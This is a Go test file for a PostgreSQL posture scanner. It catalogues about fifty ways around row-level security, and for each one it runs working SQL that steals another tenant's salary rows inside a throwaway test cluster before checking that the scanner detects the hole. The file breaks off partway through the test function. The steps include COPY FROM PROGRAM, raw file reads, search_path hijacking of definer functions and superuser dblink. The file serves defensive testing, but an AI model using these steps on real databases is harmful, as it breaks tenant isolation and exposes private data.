package dbconn_test

import (
	"context"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgconn"

	"github.com/tamshai/phoenix/dbconn"
	"github.com/tamshai/phoenix/internal/realpg"
)

// base is what the database of every hole starts from: two tenants' salaries
// behind a policy, and a role that owns them.
var base = []string{
	`CREATE SCHEMA hr AUTHORIZATION keeper`,
	`SET ROLE keeper`,
	`CREATE TABLE hr.salaries (id int PRIMARY KEY, tenant text NOT NULL, amount int NOT NULL)`,
	`ALTER TABLE hr.salaries ENABLE ROW LEVEL SECURITY`,
	`ALTER TABLE hr.salaries FORCE ROW LEVEL SECURITY`,
	`CREATE POLICY own ON hr.salaries USING (tenant = current_setting('app.tenant', true))`,
	`CREATE VIEW hr.mine WITH (security_invoker = true) AS SELECT * FROM hr.salaries`,
	`RESET ROLE`,
	`GRANT USAGE ON SCHEMA hr TO bypasser, bypasser_login`,
	`GRANT SELECT, UPDATE ON hr.salaries TO bypasser, bypasser_login`,
}

const seed = `DELETE FROM ONLY hr.salaries; INSERT INTO hr.salaries VALUES (1, 'acme', 100), (2, 'globex', 200)`

// A hole is one way around row-level security: how it comes to be, what the role
// does with it, and what has to be found. "me" in SQL is the role.
type hole struct {
	name  string
	role  string   // its name; "" means "me_" and the hole's
	with  string   // options of CREATE ROLE
	setup []string // as the superuser
	// steal are statements of the role. Its last one gives "globex" back, or, if
	// there is a check, that query of the superuser's then says true.
	steal []string
	check string
	undo  []string // what the superuser does to leave nothing behind
	found []string // "code object", all of them
	after string   // what must be left when the fixes were run; "" means nothing
}

// holes are those of PostgreSQL 15.
var holes = []hole{
	{name: "superuser", with: "SUPERUSER", steal: []string{all}, found: []string{"superuser me"}},
	{name: "bypassrls", with: "BYPASSRLS", steal: []string{all}, found: []string{"bypassrls me"}},
	{name: "noinherit membership", setup: []string{`GRANT bypasser TO me`}, with: "NOINHERIT",
		steal: []string{`SET ROLE bypasser`, all}, found: []string{"bypassrls bypasser"}},
	{name: "chain", setup: []string{`CREATE ROLE link_one NOINHERIT`, `CREATE ROLE link_two IN ROLE bypasser`, `GRANT link_two TO link_one`, `GRANT link_one TO me`},
		steal: []string{`SET ROLE bypasser`, all}, found: []string{"bypassrls bypasser"}},
	{name: "createrole", with: "CREATEROLE", steal: []string{`GRANT bypasser TO me`, `SET ROLE bypasser`, all}, undo: []string{`REVOKE bypasser FROM me`}, found: []string{"createrole me"}},
	{name: "replication", with: "REPLICATION", steal: []string{
		`SELECT pg_create_logical_replication_slot('stolen', 'test_decoding')`,
		`/*admin*/ UPDATE hr.salaries SET amount = amount + 1`, `/*admin*/ CHECKPOINT`,
		`SELECT data FROM pg_logical_slot_get_changes('stolen', NULL, NULL) WHERE data LIKE '%globex%'`}, undo: []string{`SELECT pg_drop_replication_slot(slot_name) FROM pg_replication_slots`}, found: []string{"replication me"}},
	{name: "server program", setup: []string{`GRANT pg_execute_server_program TO me`, `GRANT TEMPORARY ON DATABASE db TO me`},
		steal: []string{`CREATE TEMP TABLE out (line text)`, `COPY out FROM PROGRAM '/usr/lib/postgresql/15/bin/psql -XAtc "SELECT tenant FROM hr.salaries" -h $sockets -p $port -U postgres $database'`, `SELECT string_agg(line, ' ') FROM out`},
		found: []string{"server_program pg_execute_server_program"}},
	{name: "server files", setup: []string{`GRANT pg_read_server_files TO me`, `GRANT TEMPORARY ON DATABASE db TO me`},
		steal: []string{`/*admin*/ COPY hr.salaries TO '$sockets/$database.backup'`, `CREATE TEMP TABLE out (line text)`, `COPY out FROM '$sockets/$database.backup' DELIMITER '|'`, `SELECT string_agg(line, ' ') FROM out`},
		found: []string{"server_files pg_read_server_files"}},
	{name: "read all", setup: []string{`CREATE TABLE hr.plain AS TABLE hr.salaries`, `INSERT INTO hr.plain VALUES (2, 'globex', 3)`, `GRANT pg_read_all_data TO me`},
		steal: []string{`SELECT tenant, (SELECT count(rolpassword) FROM pg_authid) FROM hr.plain`}, found: []string{"read_all_data pg_read_all_data", "rls_disabled hr.plain"}},
	{name: "write all", setup: []string{`CREATE TABLE hr.plain AS SELECT 'globex'::text AS tenant`, `GRANT pg_write_all_data TO me`},
		steal: []string{`DELETE FROM hr.plain`}, check: `SELECT count(*) = 0 FROM hr.plain`, found: []string{"rls_disabled hr.plain", "write_all_data pg_write_all_data"}},

	{name: "owner", setup: []string{`ALTER TABLE hr.salaries OWNER TO me`, `ALTER TABLE hr.salaries NO FORCE ROW LEVEL SECURITY`}, steal: []string{all}, found: []string{"table_owner hr.salaries"}},
	{name: "owner in spite of force", setup: []string{`ALTER TABLE hr.salaries OWNER TO me`},
		steal: []string{`BEGIN`, `ALTER TABLE hr.salaries DISABLE ROW LEVEL SECURITY`, all}, found: []string{"table_owner hr.salaries"}},
	{name: "owner by membership", setup: []string{`CREATE ROLE hr_group`, `GRANT USAGE ON SCHEMA hr TO hr_group`, `ALTER TABLE hr.salaries OWNER TO hr_group`, `GRANT hr_group TO me`}, with: "NOINHERIT",
		steal: []string{`SET ROLE hr_group`, `BEGIN`, `ALTER TABLE hr.salaries NO FORCE ROW LEVEL SECURITY`, all}, found: []string{"table_owner hr.salaries"}},
	{name: "no rls", setup: []string{`CREATE TABLE hr."Pay Runs" AS SELECT 'globex'::text AS tenant`, `GRANT SELECT ON hr."Pay Runs" TO PUBLIC`},
		steal: []string{`SELECT tenant FROM hr."Pay Runs"`}, found: []string{`rls_disabled hr."Pay Runs"`}},
	{name: "no rls, one column", setup: []string{`CREATE TABLE hr.bonus AS SELECT 'globex'::text AS tenant, 1 AS amount`, `GRANT SELECT (tenant) ON hr.bonus TO me`},
		steal: []string{`SELECT tenant FROM hr.bonus`}, found: []string{`rls_disabled hr.bonus`}},
	{name: "partition", setup: []string{
		`CREATE TABLE hr.log (tenant text) PARTITION BY LIST (tenant)`, `CREATE TABLE hr.log_1 PARTITION OF hr.log DEFAULT`, `INSERT INTO hr.log VALUES ('globex')`,
		`ALTER TABLE hr.log ENABLE ROW LEVEL SECURITY`, `CREATE POLICY own ON hr.log USING (tenant = current_setting('app.tenant', true))`, `GRANT SELECT ON hr.log, hr.log_1 TO me`},
		steal: []string{`SELECT tenant FROM hr.log_1`}, found: []string{"partition hr.log_1"}},
	{name: "child", setup: []string{`CREATE TABLE hr.old () INHERITS (hr.salaries)`, `INSERT INTO hr.old VALUES (3, 'globex', 3)`, `GRANT SELECT ON hr.old TO me`},
		steal: []string{`SELECT tenant FROM hr.old`}, found: []string{"partition hr.old"}},
	{name: "foreign table", setup: append(slices.Clip(remote), `GRANT SELECT ON hr.far TO me`, `CREATE USER MAPPING FOR me SERVER here OPTIONS (user 'bypasser_login', password 'x')`),
		steal: []string{`SELECT tenant FROM hr.far`}, found: []string{"foreign_table hr.far"}},
	{name: "user mapping", setup: append(slices.Clip(remote), `CREATE USER MAPPING FOR PUBLIC SERVER here OPTIONS (user 'bypasser_login', password 'x')`,
		`GRANT USAGE ON FOREIGN SERVER here TO me`, `CREATE EXTENSION dblink`),
		steal: []string{`SELECT * FROM dblink('here', 'SELECT tenant FROM hr.salaries') AS x(tenant text)`}, found: []string{"user_mapping here"}},
	{name: "truncate", setup: []string{`GRANT TRUNCATE ON hr.salaries TO me`}, steal: []string{`TRUNCATE hr.salaries`}, check: `SELECT NOT EXISTS (SELECT FROM hr.salaries)`, found: []string{"truncate hr.salaries"}},
	{name: "trigger", setup: []string{`GRANT TRIGGER ON hr.salaries TO me`, `GRANT TEMPORARY ON DATABASE db TO me`}, steal: []string{
		`CREATE FUNCTION pg_temp.take() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN NEW.tenant := ''acme''; RETURN NEW; END'`,
		`CREATE TRIGGER take BEFORE INSERT ON hr.salaries FOR EACH ROW EXECUTE FUNCTION pg_temp.take()`,
		`/*admin*/ INSERT INTO hr.salaries VALUES (9, 'globex', 900)`, `SELECT 'globex' FROM hr.salaries WHERE amount = 900`},
		// The thief's server process may still be dropping what was temporary: a deadlock.
		undo: []string{`/*until*/ DROP TRIGGER IF EXISTS take ON hr.salaries`}, found: []string{"trigger hr.salaries"}},
	{name: "references", setup: []string{`GRANT REFERENCES (id) ON hr.salaries TO me`, `CREATE SCHEMA mine AUTHORIZATION me`},
		steal: []string{`CREATE TABLE mine.probe (id int REFERENCES hr.salaries)`, `INSERT INTO mine.probe VALUES (2)`}, check: `SELECT count(*) = 1 FROM mine.probe`,
		undo: []string{`DROP TABLE mine.probe`}, found: []string{"references hr.salaries", "schema_create mine"}},

	{name: "view", setup: []string{`CREATE VIEW hr."All Salaries" AS SELECT * FROM hr.salaries`, `GRANT SELECT ON hr."All Salaries" TO me`},
		steal: []string{`SELECT string_agg(tenant, ' ') FROM hr."All Salaries"`}, found: []string{`view hr."All Salaries"`}},
	{name: "view of the owner's", setup: []string{`ALTER TABLE hr.salaries NO FORCE ROW LEVEL SECURITY`, `CREATE VIEW hr.v AS SELECT * FROM hr.salaries`, `ALTER VIEW hr.v OWNER TO keeper`, `GRANT SELECT ON hr.v TO PUBLIC`},
		steal: []string{`SELECT string_agg(tenant, ' ') FROM hr.v`}, found: []string{`view hr.v`}},
	{name: "views in views", setup: []string{`CREATE SCHEMA deep`, `CREATE VIEW deep.one AS SELECT * FROM hr.salaries`, `CREATE VIEW deep.two WITH (security_invoker) AS SELECT * FROM deep.one`,
		`CREATE VIEW hr.three AS SELECT * FROM deep.two`, `ALTER VIEW hr.three OWNER TO keeper`, `GRANT USAGE ON SCHEMA deep TO keeper, me`, `GRANT SELECT ON deep.one, deep.two TO keeper, me`, `GRANT SELECT ON hr.three TO me`},
		steal: []string{`SELECT string_agg(tenant, ' ') FROM hr.three`}, found: []string{`view deep.one`, `view deep.two`, `view hr.three`}},
	{name: "writable view", setup: []string{`CREATE VIEW hr.v AS SELECT * FROM hr.salaries`, `GRANT UPDATE (amount) ON hr.v TO me`},
		steal: []string{`UPDATE hr.v SET amount = 0`}, check: `SELECT amount = 0 FROM hr.salaries WHERE tenant = 'globex'`, found: []string{`view hr.v`}},
	{name: "materialized view", setup: []string{seed, `CREATE MATERIALIZED VIEW hr.m AS SELECT * FROM hr.mine`, `GRANT SELECT ON hr.m TO me`},
		steal: []string{`SELECT string_agg(tenant, ' ') FROM hr.m`}, found: []string{`materialized_view hr.m`}},
	{name: "view of a copy", setup: []string{seed, `CREATE MATERIALIZED VIEW hr.m AS SELECT * FROM hr.salaries`, `CREATE VIEW hr.v AS SELECT * FROM hr.m`, `GRANT SELECT ON hr.v TO me`},
		steal: []string{`SELECT string_agg(tenant, ' ') FROM hr.v`}, found: []string{`view hr.v`}},
	{name: "rule", setup: []string{`CREATE TABLE hr.inbox (id int, tenant text)`, `ALTER TABLE hr.inbox ENABLE ROW LEVEL SECURITY`, `CREATE POLICY own ON hr.inbox USING (tenant = current_setting('app.tenant', true))`,
		`CREATE RULE r AS ON INSERT TO hr.inbox DO ALSO UPDATE hr.salaries SET amount = 0 WHERE id = NEW.id`, `GRANT INSERT ON hr.inbox TO me`},
		steal: []string{`INSERT INTO hr.inbox VALUES (2, 'acme')`}, check: `SELECT amount = 0 FROM hr.salaries WHERE id = 2`, found: []string{`rule hr.inbox`}, after: "rule hr.inbox"},
	{name: "policy", setup: []string{`CREATE POLICY everybody ON hr.salaries FOR SELECT USING (true)`}, steal: []string{all}, found: []string{`policy everybody ON hr.salaries`}},
	{name: "policy by another name", setup: []string{`CREATE POLICY "All" ON hr.salaries TO PUBLIC USING ((tenant = 'x') OR 1 = 1)`}, steal: []string{all}, found: []string{`policy "All" ON hr.salaries`}},
	{name: "policy of a group", setup: []string{`CREATE ROLE readers`, `CREATE POLICY readers ON hr.salaries TO readers USING (true)`, `GRANT readers TO me`}, steal: []string{all}, found: []string{`policy readers ON hr.salaries`}},
	{name: "check", setup: []string{`CREATE POLICY put ON hr.salaries FOR INSERT WITH CHECK (true)`, `GRANT INSERT ON hr.salaries TO me`},
		steal: []string{`INSERT INTO hr.salaries VALUES (7, 'globex', 7)`}, check: `SELECT count(*) = 1 FROM hr.salaries WHERE id = 7`, found: []string{`policy put ON hr.salaries`}},

	{name: "definer", setup: []string{`CREATE FUNCTION hr."Sum"(who text) RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT string_agg(tenant, who) FROM hr.salaries'`},
		steal: []string{`SELECT hr."Sum"(' ')`}, found: []string{`definer hr."Sum"(text)`}},
	{name: "definer procedure", setup: []string{`CREATE PROCEDURE hr.reset() LANGUAGE sql SECURITY DEFINER SET search_path = '' AS 'UPDATE hr.salaries SET amount = 0'`, `ALTER PROCEDURE hr.reset() OWNER TO bypasser`},
		steal: []string{`CALL hr.reset()`}, check: `SELECT amount = 0 FROM hr.salaries WHERE id = 2`, found: []string{`definer hr.reset()`}},
	{name: "definer search path", setup: []string{`CREATE ROLE cashier`, `GRANT USAGE ON SCHEMA hr TO cashier`, `GRANT SELECT ON hr.salaries TO cashier`, `CREATE POLICY cashier ON hr.salaries TO cashier USING (tenant = 'globex' AND amount > 0)`, `GRANT TEMPORARY ON DATABASE db TO me`,
		`CREATE TABLE hr.audit (line text)`, `GRANT INSERT ON hr.audit TO cashier`, `CREATE FUNCTION hr.note() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN INSERT INTO audit VALUES (1); END'`, `ALTER FUNCTION hr.note() OWNER TO cashier`},
		steal: []string{`CREATE TEMP TABLE audit (line text)`, `CREATE TEMP TABLE loot (tenant text)`, `GRANT ALL ON audit, loot TO PUBLIC`,
			`CREATE FUNCTION pg_temp.take() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN INSERT INTO pg_temp.loot SELECT tenant FROM hr.salaries; RETURN NEW; END'`,
			`CREATE TRIGGER take BEFORE INSERT ON audit FOR EACH ROW EXECUTE FUNCTION pg_temp.take()`, `SELECT hr.note()`, `SELECT string_agg(tenant, ' ') FROM loot`}, found: []string{`definer_search_path hr.note()`}},
	{name: "leakproof", setup: []string{`CREATE FUNCTION hr.tell(text) RETURNS bool LANGUAGE plpgsql LEAKPROOF COST 0.0001 AS $$ BEGIN IF $1 = 'globex' THEN RAISE EXCEPTION 'told: %', $1; END IF; RETURN true; END $$`},
		steal: []string{`/*error*/ SELECT * FROM hr.salaries WHERE hr.tell(tenant)`}, found: []string{`leakproof hr.tell(text)`}},
	{name: "function owner", setup: []string{`CREATE SCHEMA mine AUTHORIZATION me`, `CREATE FUNCTION mine.tenant() RETURNS text LANGUAGE sql AS $$ SELECT current_setting('app.tenant', true) $$`, `ALTER FUNCTION mine.tenant() OWNER TO me`,
		`DROP POLICY own ON hr.salaries`, `CREATE POLICY own ON hr.salaries USING (tenant = mine.tenant())`},
		steal: []string{`BEGIN`, `CREATE OR REPLACE FUNCTION mine.tenant() RETURNS text LANGUAGE sql AS $$ SELECT 'globex' $$`, all}, found: []string{`function_owner mine.tenant()`, "schema_create mine"}},
	{name: "server function", setup: []string{`GRANT EXECUTE ON FUNCTION pg_read_binary_file(text) TO me`},
		steal: []string{`/*admin*/ CHECKPOINT`, `SELECT 'globex' WHERE position('globex'::bytea IN pg_read_binary_file(pg_relation_filepath('hr.salaries'))) > 0`},
		found: []string{`server_function pg_catalog.pg_read_binary_file(text)`}},
	{name: "catalog", setup: []string{`GRANT SELECT (rolname, rolpassword) ON pg_authid TO me`}, steal: []string{`SELECT 'globex' FROM pg_authid WHERE rolname = 'bypasser_login' AND rolpassword LIKE 'SCRAM%'`}, found: []string{`catalog pg_catalog.pg_authid`}},
	{name: "statistics", setup: []string{seed, `INSERT INTO hr.salaries SELECT n, 'globex', n FROM generate_series(10, 50) n`, `ANALYZE hr.salaries`, `GRANT SELECT ON pg_statistic TO me`}, steal: []string{`SELECT string_agg(stavalues1::text, ' ') FROM pg_statistic WHERE starelid = 'hr.salaries'::regclass`}, found: []string{`catalog pg_catalog.pg_statistic`}},
	{name: "parameter", setup: []string{`GRANT SET ON PARAMETER lo_compat_privileges TO me`, `SELECT lo_from_bytea(4711, 'globex')`}, steal: []string{`SET lo_compat_privileges = on`, `SELECT convert_from(lo_get(4711), 'UTF8')`}, found: []string{`parameter lo_compat_privileges`}},
	{name: "large objects", setup: []string{`ALTER DATABASE db SET lo_compat_privileges = on`, `SELECT lo_from_bytea(4713, 'globex')`}, steal: []string{`SELECT convert_from(lo_get(4713), 'UTF8')`}, found: []string{`large_objects lo_compat_privileges`}},
	{name: "role setting", setup: []string{`CREATE ROLE app_role`, `GRANT app_role TO me`, `GRANT USAGE ON SCHEMA hr TO app_role`, `GRANT SELECT ON hr.salaries TO app_role`, `ALTER ROLE me SET role = app_role`},
		steal: []string{`/*admin*/ REVOKE ALL ON hr.salaries FROM me`, `/*admin*/ REVOKE app_role FROM me`, `SET app.tenant = 'globex'`, all}, undo: []string{`GRANT app_role TO me`}, found: []string{`role_setting me`}},
	{name: "untrusted language", setup: []string{`UPDATE pg_language SET lanpltrusted = true WHERE lanname = 'internal'`, `GRANT USAGE ON LANGUAGE internal TO me`, `CREATE SCHEMA mine AUTHORIZATION me`},
		steal: []string{`CREATE FUNCTION mine.read(text) RETURNS bytea LANGUAGE internal AS 'pg_read_binary_file_all'`, `/*admin*/ CHECKPOINT`, `SELECT 'globex' WHERE position('globex'::bytea IN mine.read(pg_relation_filepath('hr.salaries'))) > 0`},
		found: []string{"schema_create mine", "untrusted_language internal"}},
	{name: "schema", setup: []string{`GRANT CREATE, USAGE ON SCHEMA public TO me`, `CREATE ROLE clerk LOGIN`, `GRANT USAGE ON SCHEMA hr TO clerk`, `GRANT SELECT ON hr.salaries TO clerk`},
		steal: []string{`CREATE TABLE public.loot (tenant text)`, `GRANT INSERT ON public.loot TO PUBLIC`,
			`CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE sql AS $$ INSERT INTO public.loot SELECT tenant FROM hr.salaries; SELECT ''::text $$`,
			`/*admin*/ SET app.tenant = 'globex'; SET ROLE clerk; SELECT lower('x'::varchar); RESET ROLE`, `SELECT string_agg(tenant, ' ') FROM public.loot`}, undo: []string{`DROP TABLE public.loot`, `DROP FUNCTION public.lower(varchar)`}, found: []string{`schema_create public`}},
	{name: "database", setup: []string{`GRANT CREATE ON DATABASE db TO me`, `CREATE ROLE clerk_two LOGIN`, `GRANT USAGE ON SCHEMA hr TO clerk_two`, `GRANT SELECT ON hr.salaries TO clerk_two`},
		steal: []string{`CREATE SCHEMA clerk_two`, `GRANT ALL ON SCHEMA clerk_two TO PUBLIC`, `CREATE TABLE clerk_two.loot (tenant text)`, `GRANT INSERT ON clerk_two.loot TO PUBLIC`,
			`CREATE FUNCTION clerk_two.lower(varchar) RETURNS text LANGUAGE sql AS $$ INSERT INTO clerk_two.loot SELECT tenant FROM hr.salaries; SELECT ''::text $$`,
			`/*admin*/ SET app.tenant = 'globex'; SET ROLE clerk_two; SELECT lower('x'::varchar); RESET ROLE`, `SELECT string_agg(tenant, ' ') FROM clerk_two.loot`}, undo: []string{`DROP SCHEMA clerk_two CASCADE`}, found: []string{`database_create db`}},
	{name: "database owner", setup: []string{`ALTER DATABASE db OWNER TO me `, `CREATE ROLE clerk_three LOGIN`, `GRANT USAGE ON SCHEMA hr, public TO clerk_three`, `GRANT SELECT ON hr.salaries TO clerk_three`},
		steal: []string{`CREATE TABLE public.loot (tenant text)`, `GRANT INSERT ON public.loot TO PUBLIC`,
			`CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE sql AS $$ INSERT INTO public.loot SELECT tenant FROM hr.salaries; SELECT ''::text $$`,
			`/*admin*/ SET app.tenant = 'globex'; SET ROLE clerk_three; SELECT lower('x'::varchar); RESET ROLE`, `SELECT string_agg(tenant, ' ') FROM public.loot`},
		undo: []string{`DROP TABLE public.loot`, `DROP FUNCTION public.lower(varchar)`}, found: []string{"database_owner db", "schema_create public"}},
	{name: "owner of a table without rights", setup: []string{`CREATE TABLE hr.own AS SELECT 'globex'::text AS tenant`, `ALTER TABLE hr.own OWNER TO me`, `REVOKE ALL ON hr.own FROM me`},
		steal: []string{`GRANT SELECT ON hr.own TO me`, `SELECT tenant FROM hr.own`}, undo: []string{`REVOKE ALL ON hr.own FROM me`}, found: []string{"rls_disabled hr.own"}},
	{name: "view of a foreign table", setup: append(slices.Clip(remote), `CREATE USER MAPPING FOR CURRENT_USER SERVER here OPTIONS (user 'bypasser_login', password 'x')`, `CREATE VIEW hr.v AS TABLE hr.far`, `GRANT SELECT ON hr.v TO me`),
		steal: []string{`SELECT string_agg(tenant, ' ') FROM hr.v`}, found: []string{"view hr.v"}},
	{name: "copy of a table without rls", setup: []string{`CREATE TABLE hr.plain AS SELECT 'globex'::text AS tenant`, `CREATE MATERIALIZED VIEW hr.m AS TABLE hr.plain`, `GRANT SELECT ON hr.m TO me`},
		steal: []string{`SELECT tenant FROM hr.m`}, found: []string{"materialized_view hr.m"}},
	{name: "definer trigger", setup: []string{`CREATE TABLE hr.trail (line text)`, `GRANT TEMPORARY ON DATABASE db TO me`,
		`CREATE FUNCTION hr.trail() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN INSERT INTO trail VALUES (1); RETURN NEW; END'`},
		steal: []string{`CREATE TEMP TABLE loot (tenant text)`, `CREATE TEMP TABLE trail (line text)`,
			`CREATE FUNCTION pg_temp.take() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN INSERT INTO pg_temp.loot SELECT tenant FROM hr.salaries; RETURN NEW; END'`,
			`CREATE TRIGGER take BEFORE INSERT ON trail FOR EACH ROW EXECUTE FUNCTION pg_temp.take()`,
			`CREATE TEMP TABLE bait (n int)`, `CREATE TRIGGER bait BEFORE INSERT ON bait FOR EACH ROW EXECUTE FUNCTION hr.trail()`,
			`INSERT INTO bait VALUES (1)`, `SELECT string_agg(tenant, ' ') FROM loot`}, found: []string{"definer_search_path hr.trail()"}},
	{name: "dblink", setup: []string{`CREATE EXTENSION dblink`, `GRANT EXECUTE ON FUNCTION dblink_connect_u(text) TO me`, `GRANT USAGE ON SCHEMA public TO me`},
		steal: []string{`SELECT dblink_connect_u('host=127.0.0.1 port=$port dbname=$database user=postgres')`, `SELECT * FROM dblink('SELECT tenant FROM hr.salaries WHERE id = 2') AS x(tenant text)`},
		found: []string{"server_function public.dblink_connect_u(text)"}},
	{name: "alter system", setup: []string{`GRANT ALTER SYSTEM ON PARAMETER lo_compat_privileges TO me`, `SELECT lo_from_bytea(4712, 'globex')`},
		steal: []string{`ALTER SYSTEM SET lo_compat_privileges = on`, `/*admin*/ SELECT pg_reload_conf()`, `/*until*/ SELECT convert_from(lo_get(4712), 'UTF8')`},
		undo:  []string{`ALTER SYSTEM RESET lo_compat_privileges`, `SELECT pg_reload_conf()`, `/*until*/ SELECT 1 / (NOT current_setting('lo_compat_privileges')::bool)::int`}, found: []string{`parameter lo_compat_privileges`}},
}

const all = `SELECT string_agg(tenant, ' ') FROM hr.salaries`

// remote is the same database as another server would show it.
var remote = []string{`CREATE EXTENSION postgres_fdw`, `CREATE SERVER here FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '$port', dbname '$database')`,
	`CREATE FOREIGN TABLE hr.far (tenant text) SERVER here OPTIONS (schema_name 'hr', table_name 'salaries')`}

// A lab is a cluster with the roles that holes share.
type lab struct {
	pg    *realpg.Server
	count int
}

func newLab(t testing.TB, version int) *lab {
	pg := realpg.Start(t, realpg.Config{Version: version, NoTLS: true, HBA: []string{"host all bypasser_login 127.0.0.1/32 scram-sha-256", "host all all 127.0.0.1/32 trust"},
		Settings: map[string]string{"wal_level": "logical", "max_replication_slots": "4", "autovacuum": "off"}})
	pg.Exec(t, "postgres", `CREATE ROLE keeper NOLOGIN`, `CREATE ROLE bypasser BYPASSRLS`, `CREATE ROLE bypasser_login LOGIN BYPASSRLS PASSWORD 'x'`, `CREATE DATABASE base`, `REVOKE ALL ON DATABASE base FROM PUBLIC`)
	pg.Exec(t, "base", base...)
	return &lab{pg: pg}
}

// A scene is a database and a role of a hole's own.
type scene struct {
	t              testing.TB
	pg             *realpg.Server
	database, role string
	admin          *pgx.Conn
}

func (l *lab) scene(t testing.TB, h hole) *scene {
	t.Helper()
	l.count++
	s := &scene{t: t, pg: l.pg, database: fmt.Sprintf("hole_%d", l.count), role: h.role}
	if s.role == "" {
		s.role = "me_" + strings.NewReplacer(" ", "_", "'", "", ",", "").Replace(h.name)
	}
	l.pg.Exec(t, "postgres", s.fill("CREATE DATABASE db TEMPLATE base STRATEGY file_copy"), s.fill("REVOKE ALL ON DATABASE db FROM PUBLIC"),
		s.fill("CREATE ROLE me LOGIN "+h.with), s.fill("GRANT CONNECT ON DATABASE db TO me, bypasser_login"))
	s.admin = l.pg.Connect(t, s.database)
	t.Cleanup(func() { s.admin.Close(context.Background()) })
	s.run(s.admin, "GRANT USAGE ON SCHEMA hr TO me", "GRANT SELECT ON hr.salaries, hr.mine TO me")
	s.run(s.admin, h.setup...)
	return s
}

// fill puts names into SQL.
func (s *scene) fill(sql string) string {
	_, port, _ := strings.Cut(s.pg.Addr(), ":")
	words := strings.NewReplacer("$sockets", s.pg.SocketDir(), "$port", port, "$database", s.database,
		" me,", " "+quote(s.role)+",", " me;", " "+quote(s.role)+";", " me ", " "+quote(s.role)+" ", "DATABASE db ", "DATABASE "+s.database+" ")
	return strings.TrimSuffix(words.Replace(sql+" "), " ")
}

func quote(name string) string { return pgx.Identifier{name}.Sanitize() }

// try runs SQL, "until" it succeeds.
func (s *scene) try(conn *pgx.Conn, sql string) (results []*pgconn.Result, err error) {
	ctx, cancel := context.WithTimeout(s.t.Context(), 2*time.Minute)
	defer cancel()
	for {
		if results, err = conn.PgConn().Exec(ctx, sql).ReadAll(); err == nil || !strings.HasPrefix(sql, "/*until*/") || ctx.Err() != nil {
			return results, err
		}
	}
}

func (s *scene) run(conn *pgx.Conn, sql ...string) {
	s.t.Helper()
	for _, one := range sql {
		if _, err := s.try(conn, s.fill(one)); err != nil {
			s.t.Fatalf("%s: %v", s.fill(one), err)
		}
	}
}

// login is the role's own connection, with acme's identity.
func (s *scene) login() *pgx.Conn {
	s.t.Helper()
	conn, err := s.connect()
	if err != nil {
		s.t.Fatal(err)
	}
	return conn
}

func (s *scene) open() (*pgx.Conn, error) {
	host, port, _ := strings.Cut(s.pg.Addr(), ":")
	return pgx.Connect(s.t.Context(), fmt.Sprintf("host=%s port=%s dbname=%s user='%s' sslmode=disable", host, port, s.database, s.role))
}

func (s *scene) connect() (*pgx.Conn, error) {
	conn, err := s.open()
	if err == nil {
		s.run(conn, "SET app.tenant = 'acme'")
	}
	return conn, err
}

// steal reports whether the role gets at globex's row.
func (s *scene) steal(h hole) (stolen bool, why error) {
	s.t.Helper()
	s.run(s.admin, seed)
	conn, err := s.connect()
	if err != nil {
		return false, err
	}
	said := ""
	defer func() {
		conn.Close(context.Background())
		if stolen {
			s.run(s.admin, h.undo...)
		}
	}()
	for _, sql := range h.steal {
		sql = s.fill(sql)
		if sql == "/*fresh*/" { // a session that has set nothing
			conn.Close(context.Background())
			if conn, err = s.open(); err != nil {
				return false, err
			}
			continue
		}
		if sql == "/*hear*/" {
			ctx, cancel := context.WithTimeout(s.t.Context(), 30*time.Second)
			heard, err := conn.WaitForNotification(ctx)
			cancel()
			if err != nil {
				return false, err
			}
			said = heard.Payload
			continue
		}
		on := conn
		if strings.HasPrefix(sql, "/*admin*/") {
			on = s.admin
		}
		results, err := s.try(on, sql)
		if strings.HasPrefix(sql, "/*error*/") {
			return err != nil && strings.Contains(err.Error(), "globex"), err
		}
		if err != nil {
			return false, err
		}
		said = ""
		for _, r := range results {
			for _, row := range r.Rows {
				for _, value := range row {
					said += string(value) + " "
				}
			}
		}
	}
	if h.check == "" {
		return strings.Contains(said, "globex"), nil
	}
	if err := s.admin.QueryRow(s.t.Context(), h.check).Scan(&stolen); err != nil {
		s.t.Fatal(err)
	}
	return stolen, nil
}

// prove runs a finding's proof as the role.
func (s *scene) prove(f dbconn.Finding) {
	s.t.Helper()
	conn := s.login()
	defer conn.Close(context.Background())
	s.run(conn, f.Proof)
}

func (s *scene) posture(cfg dbconn.PostureConfig) *dbconn.PostureReport {
	s.t.Helper()
	cfg.Role = s.role
	r, err := dbconn.Posture(s.t.Context(), s.admin, cfg)
	if err != nil {
		s.t.Fatal(err)
	}
	return r
}

var toasted = regexp.MustCompile(`pg_toast_\d+`)

// told are a report's findings, as a hole lists them.
func (s *scene) told(r *dbconn.PostureReport) []string {
	told := []string{}
	for _, f := range r.Findings {
		f.Object = toasted.ReplaceAllString(f.Object, "pg_toast_n")
		told = append(told, f.Code+" "+strings.NewReplacer(s.database, "db", quote(s.role), "me", s.role, "me").Replace(f.Object))
	}
	slices.Sort(told)
	return told
}

// Every hole is first used, then found, and nothing else is; its fix closes it.
func TestPostureHoles(t *testing.T) { testHoles(t, newLab(t, 15), holes) }

func testHoles(t *testing.T, l *lab, holes []hole) {
	for _, h := range holes {
		t.Run(h.name, func(t *testing.T) {
			s := l.scene(t, h)
			if stolen, err := s.steal(h); !stolen {
				t.Fatalf("the role cannot use it: %v", err)
			}
			r := s.posture(dbconn.PostureConfig{})
			if told := s.told(r); !slices.Equal(told, h.found) {
				t.Fatalf("found %q, want %q", told, h.found)
			}
			for _, f := range r.Findings {
				if f.Severity == "" || f.Kind == "" || f.Detail == "" || len(f.Proof) < 10 || f.Fix == "" || f.Key == "" {
					t.Errorf("incomplete: %+v", f)
				}
				if dbconn.PostureCodes()[f.Code] == "" {
					t.Errorf("the code %s is not listed", f.Code)
				}
				s.prove(f)
			}
			for _, f := range r.Findings {
				if !strings.HasPrefix(f.Fix, "--") {
					s.run(s.admin, f.Fix)
				}
			}
